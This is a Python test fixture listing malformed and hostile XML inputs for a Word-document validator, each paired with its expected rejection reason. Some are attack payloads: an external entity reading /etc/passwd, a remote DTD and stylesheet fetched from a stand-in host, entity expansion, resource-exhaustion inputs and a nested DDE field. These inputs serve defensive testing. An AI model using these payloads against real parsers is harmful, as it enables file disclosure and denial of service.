"""XML that is broken, endless, or says how it is to be read."""

from tests.vanban.files.letters import (
    DOCUMENT_RELATIONSHIPS,
    MAIN,
    TYPES,
    character,
    doctype,
    field,
    inner,
    instruction,
    letter_declaring,
    letter_holding,
    letter_replacing,
    letter_with,
    letter_with_image,
    nested,
    paragraph,
    svg,
)

BAD_MARKUP = {
    "not well-formed": ("broken-xml", letter_with(MAIN, b"<a><b></a>")),
    "empty": ("broken-xml", letter_with(MAIN, b"")),
    "two roots": ("broken-xml", letter_with(MAIN, b"<a/><b/>")),
    "unbound prefix": ("broken-xml", letter_with(MAIN, b"<w:a/>")),
    "undeclared entity": ("broken-xml", letter_with(MAIN, b"<a>&b;</a>")),
    "document type": ("document-type", letter_with(MAIN, doctype())),
    "document type in UTF-16": ("document-type", letter_with(MAIN, doctype("utf-16"))),
    "document type in custom XML": ("document-type", letter_with("customXml/item1.xml", doctype())),
    "document type in content types": ("document-type", letter_with(TYPES, doctype())),
    "document type in relationships": ("document-type", letter_with(DOCUMENT_RELATIONSHIPS, doctype())),
    "document type in SVG": ("document-type", letter_with("word/media/a.svg", doctype())),
    "document type in an SVG in other case": ("document-type", letter_with("word/media/A.SVG", doctype())),
    "part that only its type makes XML": (
        "document-type",
        letter_declaring('<Default Extension="bin" ContentType="application/xml"/>', data=doctype()),
    ),
    "other encoding": ("encoding", letter_with(MAIN, b'<?xml version="1.0" encoding="cp1258"?><a/>')),
    "UTF-7": ("encoding", letter_with(MAIN, b'<?xml version="1.0" encoding="UTF-7"?><a/>')),
    "too deep": ("too-complex", letter_holding(nested(300))),
    "too long": ("too-complex", lambda: letter_holding("<w:p/>" * 600_001)),
    "too many attributes": (
        "too-complex",
        letter_holding("<w:p " + " ".join(f'w:a{i}="1"' for i in range(1001)) + "/>"),
    ),
    "too many namespaces": (
        "too-complex",
        letter_holding("<w:p " + " ".join(f'xmlns:a{i}="urn:{i}"' for i in range(2001)) + "/>"),
    ),
    "attribute of 5 MB": ("too-complex", lambda: letter_holding(f'<w:p w:a="{"a" * 5_000_001}"/>')),
    "stylesheet": (
        "stylesheet",
        letter_with("customXml/item1.xml", b'<?xml-stylesheet href="http://203.0.113.1/a.xsl"?><a/>'),
    ),
    "EBCDIC": ("broken-xml", letter_with("word/a.bin", "<?xml version='1.0'?><a/>".encode("cp037"))),
    "UTF-32": ("broken-xml", letter_with(MAIN, "<a/>".encode("utf-32"))),
    "version that nobody reads": ("broken-xml", letter_with(MAIN, b'<?xml version=".0"?><a/>')),
    "UTF-16 without saying so": ("encoding", letter_with(MAIN, "<a>b</a>".encode("utf-16-le"))),
    "header that only its relationship makes XML": (
        "document-type",
        letter_with("word/header9.bin", doctype()),
    ),
    "header declared a picture": ("document-type", letter_with_image(doctype(), "image/png")),
    "header behind a page of blanks": (
        "document-type",
        letter_with("word/a.bin", b" " * 99 + doctype()[38:]),
    ),
    "type with a parameter": (
        "document-type",
        letter_declaring(
            '<Override PartName="/word/extra.bin" ContentType="application/xml; charset=utf-8"/>',
            data=b"\xef\xbb\xbf" + doctype(),
        ),
    ),
    "entity of a file": (
        "document-type",
        letter_with(MAIN, b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ),
    "entities of entities": (
        "document-type",
        letter_with(MAIN, b'<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;">]><a>&c;</a>'),
    ),
    "entity by parameter": (
        "document-type",
        letter_with(MAIN, b'<!DOCTYPE a [<!ENTITY % b SYSTEM "http://203.0.113.1/b.dtd"> %b;]><a/>'),
    ),
    "relationships under another root": (
        "broken-xml",
        letter_replacing(DOCUMENT_RELATIONSHIPS, b"2006/relationships", b"2006/others"),
    ),
    "types under another root": ("broken-xml", letter_with(TYPES, b"<a/>")),
    "SVG style that takes hours": (
        "external-link",
        lambda: svg("<style>a{b:url(" + " " * 300_000 + "#a) url(x)}</style>"),
    ),
    "fields in a field without end": (
        "field",
        lambda: letter_holding(
            paragraph(
                character("begin"),
                instruction("IF "),
                (instruction("a") + inner(field(instruction("PAGE")))) * 20_000,
                character("end"),
                inner(field(instruction("DDE a b"))),
            )
        ),
    ),
}
